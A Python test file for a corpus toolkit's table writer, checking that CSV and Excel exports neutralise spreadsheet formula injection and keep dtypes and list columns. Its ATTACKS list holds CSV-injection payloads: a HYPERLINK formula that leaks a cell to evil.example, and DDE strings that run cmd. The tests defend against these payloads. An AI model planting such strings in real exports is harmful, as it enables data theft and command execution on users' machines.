"""Tables written for people and their spreadsheets: parquet, CSV and Excel, list columns,
cells that a spreadsheet would run as formulas, and the dtypes of the toolkit's tables."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest

import corpus_tools as ct
from corpus_tools.errors import InvalidParameterError
from corpus_tools.io import STRING_DTYPE, for_spreadsheet, with_table_dtypes, write_table

#: Cells an attacker puts in a title or a record field (OWASP's CSV injection examples).
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def table(seed_corpus: pd.DataFrame) -> pd.DataFrame:
    """The seeds' inspect table with attacks in its titles, a list column and numbers."""
    frame = ct.inspect(seed_corpus)[["doc_id", "title", "chars", "placeholders"]].copy()
    frame["title"] = ATTACKS[: len(frame)]
    frame["terms"] = [["党建引领", "三会一课"], [], ["软弱涣散"], ["两委", "=1"], ["网格化"]]
    frame["score"] = [-1.5, 0.0, 2.25, -3.0, 1e-9]
    frame["signed"] = ["-5", "+3.5", "-1e3", "12%", "-"]
    return frame


def test_csv_cells_that_would_run_are_neutralised(table: pd.DataFrame, tmp_path: Path) -> None:
    out = write_table(table, tmp_path / "t.csv")
    back = pd.read_csv(out, encoding="utf-8-sig", keep_default_na=False)
    for attack, cell in zip(ATTACKS, back["title"], strict=False):
        assert cell == "'" + attack  # shown as text by Excel and LibreOffice
    # numbers stay numbers, and text that is a plain number is left alone
    assert back["score"].tolist() == table["score"].tolist()
    assert back["chars"].tolist() == table["chars"].tolist()
    assert back["signed"].tolist() == ["-5", "+3.5", "-1e3", "12%", "'-"]
    # list cells joined; an item is never a formula at the start of its cell
    assert back["terms"].tolist() == ["党建引领; 三会一课", "", "软弱涣散", "两委; =1", "网格化"]
    raw = write_table(table, tmp_path / "raw.csv", raw_cells=True)
    back = pd.read_csv(raw, encoding="utf-8-sig", keep_default_na=False)
    assert back["title"].tolist()[:4] == ATTACKS[:4]
    assert table["title"].tolist() == ATTACKS[:5]  # the caller's table is not changed


def test_xlsx_holds_text_cells_never_formulas(table: pd.DataFrame, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    for raw_cells in (False, True):
        out = write_table(table, tmp_path / f"t{raw_cells}.xlsx", raw_cells=raw_cells)
        sheet = load_workbook(out).active
        assert sheet is not None
        rows = list(sheet.iter_rows())
        header = [c.value for c in rows[0]]
        assert header == list(table.columns)
        titles = [r[header.index("title")] for r in rows[1:]]
        # the value is kept exactly; the cell is text, marked so unless raw_cells
        assert [c.value for c in titles] == ATTACKS[:5]
        assert all(c.data_type == "s" for c in titles)
        assert all(c.quotePrefix is (not raw_cells) for c in titles)
        assert all(c.data_type != "f" for r in rows for c in r)
        chars = [r[header.index("chars")].value for r in rows[1:]]
        assert chars == table["chars"].tolist()
        scores = [r[header.index("score")].value for r in rows[1:]]
        assert scores == table["score"].tolist()
        terms = [r[header.index("terms")].value for r in rows[1:]]
        assert terms[0] == "党建引领; 三会一课" and terms[1] is None
    back = pd.read_excel(tmp_path / "tFalse.xlsx")
    assert back["doc_id"].tolist() == table["doc_id"].tolist()


def test_parquet_keeps_lists_and_dtypes(table: pd.DataFrame, tmp_path: Path) -> None:
    out = write_table(table, tmp_path / "t.parquet")
    back = pd.read_parquet(out)
    assert [list(x) for x in back["terms"]] == table["terms"].tolist()
    assert back["title"].tolist() == ATTACKS[:5]  # parquet is data, not a spreadsheet


def test_excel_limits_are_refused_not_cut(seed_corpus: pd.DataFrame, tmp_path: Path) -> None:
    big = seed_corpus[["doc_id", "text"]].copy()
    big.loc[big.index[0], "text"] = big["text"].iloc[0] * 20
    assert len(big["text"].iloc[0]) > 32_767
    with pytest.raises(InvalidParameterError, match=r"fits an Excel sheet .*column 'text', row 0"):
        write_table(big, tmp_path / "corpus.xlsx")
    assert not list(tmp_path.iterdir())  # nothing half-written
    write_table(big, tmp_path / "corpus.csv")  # a CSV holds it
    back = pd.read_csv(tmp_path / "corpus.csv", encoding="utf-8-sig")
    assert back["text"].iloc[0] == big["text"].iloc[0]


def test_control_characters_in_xlsx_are_replaced_with_a_warning(tmp_path: Path) -> None:
    frame = pd.DataFrame({"text": ["三会\x01一课", "两委"]})
    with pytest.warns(UserWarning, match=r"U\+FFFD \(1 cells of 'text'\)"):
        write_table(frame, tmp_path / "c.xlsx")
    assert pd.read_excel(tmp_path / "c.xlsx")["text"].tolist() == ["三会\ufffd一课", "两委"]


def test_for_spreadsheet_joins_other_containers_as_json() -> None:
    frame = pd.DataFrame({"meta": [{"省": "浙江"}, None], "pairs": [[("a", 1)], []]})
    out = for_spreadsheet(frame)
    assert json.loads(out["meta"].iloc[0]) == {"省": "浙江"}
    assert json.loads(out["pairs"].iloc[0]) == [["a", 1]]
    assert frame["meta"].iloc[0] == {"省": "浙江"}


def test_table_dtypes_rule() -> None:
    frame = pd.DataFrame(
        {"doc_id": ["a", "b"], "year": [2021, None], "flag": [True, None], "x": [1.5, 2]},
        dtype=object,
    )
    got = with_table_dtypes(frame)
    assert got["doc_id"].dtype == STRING_DTYPE
    assert str(got["year"].dtype) == "Int64" and got["year"].iloc[0] == 2021
    assert str(got["flag"].dtype) == "boolean"
    assert got["x"].dtype == object  # mixed values are left as they are
    assert frame["doc_id"].dtype == object  # not changed in place
    # pandas' own str columns (Arrow on pandas 3) become string[python] too
    assert with_table_dtypes(pd.DataFrame({"t": ["x"]}))["t"].dtype == STRING_DTYPE
